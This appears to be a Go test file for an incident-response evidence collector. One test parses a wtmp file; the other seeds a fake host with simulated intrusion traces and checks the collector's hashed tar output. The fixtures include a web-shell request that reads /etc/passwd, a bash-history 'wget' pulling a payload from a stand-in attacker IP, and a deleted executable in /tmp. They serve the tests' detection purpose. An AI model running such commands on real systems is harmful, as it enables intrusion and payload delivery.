package integrity

import (
	"archive/tar"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"io"
	"os"
	"strings"
	"testing"
	"time"
)

// TestParseUtmp decodes a wtmp taken from a lab host: boot records, as
// last(1) shows them for that file.
func TestParseUtmp(t *testing.T) {
	b, err := os.ReadFile("testdata/wtmp")
	if err != nil {
		t.Fatal(err)
	}
	ls, err := ParseUtmp(b)
	if err != nil {
		t.Fatal(err)
	}
	if len(ls) != len(b)/384 {
		t.Fatalf("%d records from %d bytes", len(ls), len(b))
	}
	boots := 0
	for _, l := range ls {
		if l.Type == "boot" {
			boots++
			if l.User != "reboot" || !strings.HasPrefix(l.Host, "6.") || l.Time.Year() != 2026 {
				t.Errorf("boot record %+v", l)
			}
		}
	}
	if boots != 3 {
		t.Errorf("%d boot records, last(1) shows 3", boots)
	}
	// last -f testdata/wtmp --time-format iso: the first boot at 04:45:07.
	first := time.Date(2026, 12, 6, 4, 45, 7, 0, time.UTC)
	if got := ls[0].Time.Truncate(time.Second); ls[0].Type != "boot" || !got.Equal(first) {
		t.Errorf("first record %+v, want a boot at %s", ls[0], first)
	}
	if _, err := ParseUtmp(b[:len(b)-10]); err == nil {
		t.Error("a truncated wtmp parsed without complaint")
	}
}

// TestAcquireFakeTree runs every evidence step on a fake tree and checks
// the tar against the acquisition's hashes.
func TestAcquireFakeTree(t *testing.T) {
	root := t.TempDir()
	base := baseTree()
	now := time.Now().UTC()
	stamp := now.Format(time.RFC3339)
	base["var/log/auth.log"] = strings.Repeat(stamp+" web1 sshd[1]: Failed password for root from 198.51.100.9 port 1 ssh2\n", 6) +
		stamp + " web1 sshd[1]: Accepted password for root from 198.51.100.9 port 2 ssh2\n"
	base["var/log/nginx/access.log"] = `198.51.100.9 - - [` + now.Format("02/Jan/2006:15:04:05 -0700") + `] "GET /index.php?cmd=cat+/etc/passwd HTTP/1.1" 200 5 "-" "curl"` + "\n" +
		`10.0.0.5 - - [` + now.Format("02/Jan/2006:15:04:05 -0700") + `] "GET / HTTP/1.1" 200 5 "-" "ok"` + "\n"
	base["root/.bash_history"] = "id\nwget http://198.51.100.9/x\n"
	base["sys/class/net/eth0/flags"] = "0x1103\n"
	base["proc/4242/stat"] = "4242 (upd) S 1 4242 4242 0 -1 4194560 0 0 0 0 0 0 0 0 20 0 1 0 500 0 0\n"
	base["proc/4242/exe"] = "->/tmp/.d/upd (deleted)"
	base["proc/stat"] = "btime 1700000000\n"
	tree(t, root, base)
	var tb bytes.Buffer
	acq, err := Acquire(context.Background(), root, EvidenceArgs{Since: now.Add(-time.Hour), WebRoots: []string{"/var/www"}}, &tb)
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range acq.Steps {
		if s.Error != "" && s.Name != "logged-in" && s.Name != "last" {
			t.Errorf("step %s: %s", s.Name, s.Error)
		}
		if s.End.Before(s.Start) {
			t.Errorf("step %s ends before it starts", s.Name)
		}
	}
	sums := map[string]string{}
	for _, it := range acq.Items {
		sums[it.Name] = it.SHA256
	}
	items := map[string][]byte{}
	tr := tar.NewReader(&tb)
	for {
		h, err := tr.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(tr)
		s := sha256.Sum256(b)
		if hex.EncodeToString(s[:]) != sums[h.Name] {
			t.Errorf("%s: hash differs from the acquisition's", h.Name)
		}
		items[h.Name] = b
	}
	var auth AuthSummary
	json.Unmarshal(items["06-auth-summary.json"], &auth)
	if auth.FailuresBySource["198.51.100.9"] != 6 || len(auth.SuccessAfterFailures) != 1 {
		t.Errorf("auth summary %+v", auth)
	}
	var hits AccessHits
	json.Unmarshal(items["10-access-log-hits.json"], &hits)
	if len(hits.Lines) != 1 || hits.TopSources[0].Source != "198.51.100.9" {
		t.Errorf("access hits %+v", hits)
	}
	if !strings.Contains(string(items["07-interfaces.json"]), `"promiscuous": true`) {
		t.Errorf("eth0 (flags 0x1103) not promiscuous: %s", items["07-interfaces.json"])
	}
	if string(items["11-histories/root/.bash_history"]) != base["root/.bash_history"] {
		t.Errorf("history not copied: %v", items)
	}
	if !strings.Contains(string(items["08-changed-files.json"]), "/var/log/auth.log") {
		t.Error("auth.log, written now, is not among the changed files")
	}
	if !strings.Contains(string(items["01-processes.json"]), `"suspicious": "a deleted executable"`) {
		t.Errorf("the deleted process is not marked: %s", items["01-processes.json"])
	}
}
